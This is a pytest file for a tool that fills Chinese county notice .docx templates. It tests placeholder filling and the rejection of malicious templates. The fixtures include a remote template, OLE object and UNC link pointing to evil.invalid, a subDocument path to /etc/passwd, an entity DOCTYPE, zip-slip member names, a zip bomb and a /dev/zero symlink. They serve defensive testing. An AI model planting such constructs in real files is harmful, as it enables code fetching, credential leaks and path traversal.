"""A county's own .docx filled in."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pytest
from tests.e2e.desk import check, register

from lbt_audit.model.errors import ConfigError
from lbt_audit.notices.letter.letter import Letter
from lbt_audit.notices.letter.template import fill_template

LETTER = Letter(
    lang="zh", title="", addressee="", parts=(), attachments=(),
    fields={"unit": "白石镇<&>", "count": "3", "demands": ["逐项核实。", "逐条销号。"], "county": "青禾县"},
    rows=[{"code": "B02", "count": "2"}, {"code": "D01", "count": "1"}],
)  # fmt: skip


def filled(tmp_path: Path, make: Any, letter: Letter = LETTER) -> Any:
    document = docx.Document()
    make(document)
    path = tmp_path / "整改通知书.docx"
    document.save(str(path))
    out = io.BytesIO()
    fill_template(path, letter, out)
    out.seek(0)
    return docx.Document(out)


def test_placeholders_in_body_header_and_footer(tmp_path: Path) -> None:
    def make(document: Any) -> None:
        document.add_paragraph("致{{unit}}：发现 {{ count }} 条。")
        document.sections[0].header.paragraphs[0].text = "{{county}}民政局"
        document.sections[0].footer.paragraphs[0].text = "{{county}}"

    got = filled(tmp_path, make)
    assert got.paragraphs[0].text == "致白石镇<&>：发现 3 条。"
    assert got.sections[0].header.paragraphs[0].text == "青禾县民政局"
    assert got.sections[0].footer.paragraphs[0].text == "青禾县"


def test_a_placeholder_broken_over_runs_keeps_the_first_runs_format(tmp_path: Path) -> None:
    def make(document: Any) -> None:
        paragraph = document.add_paragraph()
        for number, piece in enumerate(("责任单位：{", "{un", "it}", "}，共{{count}}条，", "{{count}}")):
            paragraph.add_run(piece).bold = number == 0

    (paragraph, *_) = filled(tmp_path, make).paragraphs
    assert paragraph.text == "责任单位：白石镇<&>，共3条，3"
    assert paragraph.runs[0].text == "责任单位：白石镇<&>"
    assert paragraph.runs[0].bold


def test_several_lines_become_paragraphs_or_line_breaks(tmp_path: Path) -> None:
    def make(document: Any) -> None:
        document.add_paragraph("{{demands}}", style="List Bullet")
        document.add_paragraph("要求：{{demands}}")

    got = filled(tmp_path, make)
    assert [p.text for p in got.paragraphs] == ["逐项核实。", "逐条销号。", "要求：逐项核实。\n逐条销号。"]
    assert got.paragraphs[1].style.name == "List Bullet"


def test_what_xml_cannot_hold_is_replaced(tmp_path: Path) -> None:
    letter = replace(LETTER, fields={"unit": "白石\x00镇\ud800"})
    got = filled(tmp_path, lambda d: d.add_paragraph("致{{unit}}"), letter)
    assert got.paragraphs[0].text == "致白石\ufffd镇\ufffd"


def test_a_row_is_repeated(tmp_path: Path) -> None:
    def make(document: Any) -> None:
        table = document.add_table(2, 2)
        for cell, words in zip(
            table._cells, ("规则", "条数", "{{row.code}}", "{{row.count}}条"), strict=True
        ):
            cell.text = words

    (table,) = filled(tmp_path, make).tables
    assert [[c.text for c in row.cells] for row in table.rows] == [
        ["规则", "条数"],
        ["B02", "2条"],
        ["D01", "1条"],
    ]


def test_an_unknown_placeholder_is_refused_with_the_nearest_known(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        filled(tmp_path, lambda d: d.add_paragraph("{{units}} {{row.cod}}"))
    message = caught.value.text.zh
    assert "整改通知书.docx" in message
    assert "{{units}}（是否为 unit？）" in message


def test_what_is_no_docx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(b"nothing")
    with pytest.raises(ConfigError, match=r"a\.docx"):
        fill_template(path, LETTER, io.BytesIO())
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("word/document.xml", "<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>")
    with pytest.raises(ConfigError, match="not a usable"):
        fill_template(path, LETTER, io.BytesIO())


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REACHES_OUT = f"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{OFFICE}/{{kind}}" Target="{{target}}"{{mode}}/></Relationships>"""
EXTERNAL = ' TargetMode="External"'


def reaching_out(path: Path, more: dict[str, str]) -> Path:
    """A template with parts of its own beside python-docx's."""
    document = docx.Document()
    document.add_paragraph("致{{unit}}")
    document.save(str(path))
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    with zipfile.ZipFile(path, "w") as package:
        for name, data in (parts | {name: text.encode() for name, text in more.items()}).items():
            package.writestr(name, data)
    return path


SPACES = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}"'
TEMPLATE = f'<w:settings {SPACES}><w:attachedTemplate r:id="rId1"/></w:settings>'
TEXT = "<w:r><w:t>文</w:t></w:r>"
LINKS = [
    ("attachedTemplate", "http://evil.invalid/a.dotm", EXTERNAL, "settings", TEMPLATE),
    ("attachedTemplate", "file:///c:/a.dotm", EXTERNAL, "settings", TEMPLATE),
    ("hyperlink", r"\\evil.invalid\a", EXTERNAL, "footer9",
     f'<w:ftr {SPACES}><w:p><w:hyperlink r:id="rId1">{TEXT}</w:hyperlink></w:p></w:ftr>'),
    ("subDocument", "../../../etc/passwd", "", "header9", f'<w:hdr {SPACES}><w:subDoc r:id="rId1"/></w:hdr>'),
    ("oleObject", "http://evil.invalid/", "", "header9", f'<w:hdr {SPACES}><w:object r:id="rId1"/></w:hdr>'),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "target", "mode", "part", "markup"), LINKS)
def test_links_that_lead_out_are_left_out_and_told(
    tmp_path: Path, kind: str, target: str, mode: str, part: str, markup: str
) -> None:
    rels = REACHES_OUT.format(kind=kind, target=target, mode=mode)
    more = {f"word/{part}.xml": markup, f"word/_rels/{part}.xml.rels": rels}
    path, out = reaching_out(tmp_path / "整改通知书.docx", more), io.BytesIO()
    assert fill_template(path, LETTER, out) == [target]
    with zipfile.ZipFile(out) as package:
        texts = [package.read(name).decode("utf-8", "replace") for name in package.namelist()]
        left = package.read(f"word/{part}.xml").decode()
    assert not any("evil" in text or target in text for text in texts)
    assert "rId1" not in left and ("文" in left) == (kind == "hyperlink")
    assert docx.Document(out).paragraphs[0].text == "致白石镇<&>"


@pytest.mark.parametrize(
    "name", ["../a", "word/../../a", "/etc/a", "c:a", "..\\a", "\\\\server\\a", "word\\a"]
)
def test_members_that_would_be_unpacked_elsewhere_are_left_out_and_told(tmp_path: Path, name: str) -> None:
    path, out = reaching_out(tmp_path / "通报.docx", {name: "x", "word/..a": "x"}), io.BytesIO()
    assert fill_template(path, LETTER, out) == [name]
    with zipfile.ZipFile(out) as package:
        assert name not in package.namelist() and "word/..a" in package.namelist()


def test_the_command_says_what_was_left_out(tmp_path: Path) -> None:
    (tmp_path / "报送").mkdir()
    (tmp_path / "模板").mkdir()
    register(tmp_path / "报送" / "白石镇名册.csv")
    (tmp_path / "lbt-audit.toml").write_text('[notices]\ntemplates = "模板"\n', encoding="utf-8")
    reaching_out(tmp_path / "模板" / "整改通知书.docx", {"../../a": "x"})
    done = check(tmp_path / "报送", "--out", tmp_path / "报告")
    assert "整改通知书.docx" in done.err and "没有写入文书" in done.err and "../../a" in done.err
    for notice in (tmp_path / "报告" / "整改通知书").glob("*.docx"):
        with zipfile.ZipFile(notice) as package:
            assert not [name for name in package.namelist() if ".." in name]


def test_bombs_and_devices_are_no_templates(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for number in range(3):
            package.writestr(f"word/{number}.xml", b" " * 40_000_000)
    with pytest.raises(ConfigError, match="too large"):
        fill_template(path, LETTER, io.BytesIO())
    if Path("/dev/zero").exists():
        path.unlink()
        path.symlink_to("/dev/zero")
        with pytest.raises(ConfigError, match="ordinary file"):
            fill_template(path, LETTER, io.BytesIO())
